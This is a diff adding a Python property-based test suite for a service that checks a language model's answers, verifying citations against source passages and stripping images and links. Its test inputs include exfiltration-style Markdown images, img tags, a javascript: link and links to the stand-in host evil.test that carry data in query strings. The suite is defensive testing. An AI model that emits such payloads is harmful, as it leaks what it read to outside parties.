@@ -1,0 +1,187 @@
+# ruff: noqa: RUF001 - the quotation marks of many languages
+"""Whatever a model writes, what is shown of it is checked."""
+
+import re
+from collections.abc import Sequence
+from uuid import UUID
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from service.answering.citations import CITATION_DROPPED, NUMBER_DROPPED, Checked, check
+from service.answering.links import IMAGE_REMOVED, LINK_REMOVED
+from service.answering.models import Citation, Passage
+from service.answering.streaming import check_so_far
+
+TEXTS = (
+    "Everyone has 27 days of annual leave, plus public holidays.",
+    'The sign says “mind the gap”; see https://example.test/leave?year=2 or\nask   Ada\'s team at www.example.test.',
+    "a [[1]] b [2] [[3: c]]",
+)
+PASSAGES = [Passage(UUID(int=number), f"document {number}", text, 0.5) for number, text in enumerate(TEXTS)]
+
+ADDRESSES = {"https://example.test/leave?year=2", "www.example.test"}
+ADDRESS = re.compile(r"(?:[a-z][a-z0-9+.-]+://|www\.)[^\s<>\"`]+", re.IGNORECASE)
+RAW_MARK = re.compile(r"\[\[\s*\d")
+SHOWN_NUMBER = re.compile(r"\[\s*(\d{1,3})\s*\]")
+PARTS = (
+    "[", "]", "(", ")", "[[", "]]", "!", "<", ">", '"', "'", "“", ":", " ", "\n", "1", "2", "3", "9", ",", "://", "//",
+    "http", "https://evil.test/?q=", "www.", "https://example.test/leave?year=2", "27 days", "mind the gap", "](", "![",
+    '[[1: "', '"]]', '[[1: "27 days"]]', "[[2: “mind the gap”]]", '[[9: "27 days"]]', '[[1: "28 days"]]', "[1]", "[[1]]",
+    "<img src=", "\\", "\ue000", "\ue001", "a", "leave",
+)  # fmt: skip
+SOUP = st.lists(st.one_of(st.sampled_from(PARTS), st.text(max_size=3)), max_size=25).map("".join)
+
+
+def checked(text: str, *, passages: Sequence[Passage] = PASSAGES, known: Sequence[str] = ()) -> Checked:
+    """The text, checked against the passages."""
+    return check(text, passages=passages, known=known)
+
+
+@given(SOUP)
+@example('[[[9: "zz"]][1: "27 days"]]')
+@example('[[9: "zz"]1]')
+@example('[[[1: "27 days"]]: "27 days"]]')
+@example("[[[1]1]]")
+@settings(max_examples=1500)
+def test_a_shown_citation_is_always_a_verified_one(text: str) -> None:
+    """Every quote stands in its passage, no raw mark is shown, and every number in brackets is a citation's."""
+    found = checked(text)
+    for citation in found.citations:
+        assert citation.quote in TEXTS[citation.passage_no]
+        assert any(map(str.isalnum, citation.quote))
+    assert not RAW_MARK.search(found.text)
+    numbers = [int(number) for number in SHOWN_NUMBER.findall(found.text)]
+    assert list(dict.fromkeys(numbers)) == list(range(1, len(found.citations) + 1))
+    assert "\ue000" not in found.text
+
+
+@given(SOUP)
+@example("![a](https://evil.test/?q=1)")
+@example("[a][r]\n\n[r]: //evil.test/x")
+@example("![a[1]](//evil.test/?q=1)")
+@example("<img src=//evil.test/?q=1>")
+@example("www.www.evil.test")
+@example("https[1]://evil.test")
+@settings(max_examples=1500)
+def test_no_image_and_no_unknown_address_is_ever_shown(text: str) -> None:
+    """No Markdown image, no link to and no mention of an address that the passages don't have."""
+    assert_leads_nowhere(checked(text).text)
+
+
+def assert_leads_nowhere(shown: str) -> None:
+    """No image, no tag, and no address but the passages' own, whole, neither written out nor behind a link."""
+    shown = re.sub(r"\[\d+\]", " ", shown)
+    assert {address.rstrip(".,;:!?)]}'*_~|") for address in ADDRESS.findall(shown)} <= ADDRESSES
+    assert not re.search(r"!\[", shown)
+    assert not re.search(r"<(img|a|script)\b", shown, re.IGNORECASE)
+    assert {target for target in re.findall(r"\]\(\s*<?([^\s<>()]*)", shown) if target} <= ADDRESSES
+
+
+@given(SOUP, st.integers(0, 200))
+@settings(max_examples=800)
+def test_what_is_shown_on_the_way_is_as_clean_as_the_whole(text: str, length: int) -> None:
+    """Of any beginning of a text, no half citation and no unknown address is shown."""
+    shown = check_so_far(text[:length], passages=PASSAGES, known=())
+    assert not RAW_MARK.search(shown)
+    assert_leads_nowhere(shown)
+
+
+REPLY = (
+    'You have **27 days** [[1: "27 days of annual leave"]], holidays apart [[1: "plus public holidays"]]. '
+    'A sign says so [[2: "mind the gap"]][[2: “mind the gap”]]; see [the page](https://example.test/leave?year=2).\n\n'
+    "- 3 < 4 and a[i] stay\n- so does the end."
+)
+
+
+def test_a_reply_only_ever_grows_while_it_is_written() -> None:
+    """Each look at it begins with what was shown before, and the whole begins with the last."""
+    before = ""
+    for length in range(len(REPLY) + 1):
+        shown = check_so_far(REPLY[:length], passages=PASSAGES, known=())
+        assert shown.startswith(before), (before, shown)
+        before = shown
+    whole = checked(REPLY).text
+    assert whole.startswith(before)
+    assert len(before) > len(whole) - 10
+    assert whole == (
+        "You have **27 days** [1], holidays apart [2]. A sign says so [3][3]; see "
+        "[the page](https://example.test/leave?year=2).\n\n- 3 < 4 and a[i] stay\n- so does the end."
+    )
+
+
+def test_a_citation_is_spelt_as_the_passage_spells_it() -> None:
+    """White space and quotation marks of the model's are forgiven; the quote that is kept is the passage's."""
+    found = checked('So [[2: "says \\"mind the gap\\"; see"]] and [[2: "or ask Ada’s team"]].')
+    assert found.text == "So [1] and [2]."
+    assert found.citations == [
+        Citation(1, "says “mind the gap”; see"),
+        Citation(1, "or\nask   Ada's team"),
+    ]
+    assert not found.warnings
+
+
+@pytest.mark.parametrize(
+    "mark",
+    [
+        '[[1: "28 days of annual leave"]]',
+        '[[1: "27 Days of annual leave"]]',
+        '[[9: "27 days"]]',
+        '[[0: "27 days"]]',
+        '[[2: "27 days"]]',
+        '[[1: ""]]',
+        '[[1: "."]]',
+        "[[1]]",
+        "[[1: 27 days]]",
+        '[[1: "27 days"',
+        '[[1: "27 da',
+        "[[1:",
+    ],
+)
+def test_a_citation_that_does_not_hold_is_dropped(mark: str) -> None:
+    """Invented words, another passage's, a passage that isn't there, a half one: gone, with a warning."""
+    found = checked(f"You have 27 days {mark}")
+    assert found == Checked("You have 27 days", [], [CITATION_DROPPED])
+
+
+def test_numbers_that_only_look_like_citations_are_dropped() -> None:
+    """A model that cites by bare numbers cites nothing."""
+    found = checked("You have 27 days [1], they say [2, 3][14].")
+    assert found == Checked("You have 27 days, they say.", [], [NUMBER_DROPPED])
+
+
+def test_other_brackets_stay() -> None:
+    """Code, years and words in brackets are nobody's citation."""
+    text = "if [[ -f x ]]; then a[i] = b; fi in [2024] [see below] [[Page]]"
+    assert checked(text) == Checked(text, [], [])
+
+
+@pytest.mark.parametrize(
+    ("text", "shown", "warning"),
+    [
+        ("a ![pixel](https://evil.test/?q=27) b", "a  b", IMAGE_REMOVED),
+        ("![x](https://example.test/leave?year=2)", "", IMAGE_REMOVED),
+        ("![x][1]", "", IMAGE_REMOVED),
+        ('<img src="https://evil.test/?q=27">', "", IMAGE_REMOVED),
+        ("[here](https://evil.test/?q=27)", "here", LINK_REMOVED),
+        ("[here](https://example.test/leave?year=2&q=27)", "here", LINK_REMOVED),
+        ("[here](//evil.test/x)", "here", LINK_REMOVED),
+        ("[he[r]e](//evil.test/x)", "[he[r]e] (//evil.test/x)", LINK_REMOVED),
+        ("[here](javascript:alert)", "here", LINK_REMOVED),
+        ("see https://evil.test/27-days.", "see .", LINK_REMOVED),
+        ("see HTTPS://EVIL.TEST/27, or", "see , or", LINK_REMOVED),
+        ("see www.evil.test/27", "see", LINK_REMOVED),
+        ("<https://evil.test/27>", "<>", LINK_REMOVED),
+        ("[r]: https://evil.test/27", "", LINK_REMOVED),
+    ],
+)
+def test_ways_out_are_removed(text: str, shown: str, warning: str) -> None:
+    """An address that a model put together itself can carry what it read to somebody else."""
+    assert checked(text) == Checked(shown, [], [warning])
+
+
+def test_links_of_the_passages_and_of_the_person_may_be_repeated() -> None:
+    """Word for word."""
+    text = "see https://example.test/leave?year=2, [it](https://person.test/a) or www.example.test."
+    assert checked(text, known=["is https://person.test/a still right?"]) == Checked(text, [], [])
